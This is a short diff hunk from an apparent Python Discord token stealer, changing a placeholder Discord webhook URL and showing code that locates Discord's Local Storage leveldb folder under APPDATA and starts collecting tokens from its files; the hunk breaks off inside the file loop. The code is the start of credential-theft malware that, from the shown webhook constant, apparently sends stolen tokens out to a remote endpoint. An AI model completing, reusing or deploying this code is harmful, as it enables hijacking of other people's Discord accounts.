@@ -4,7 +4,7 @@ import os
 import re
 import urllib.request
 
-HOOK = "https://discord.com/api/webhooks/000000000000000000/placeholder"
+HOOK = "https://discord.com/api/webhooks/000000000000000000/placeholder-placeholder-placeholder"
 leveldb = os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb")
 tokens = set()
 for name in os.listdir(leveldb) if os.path.isdir(leveldb) else []:
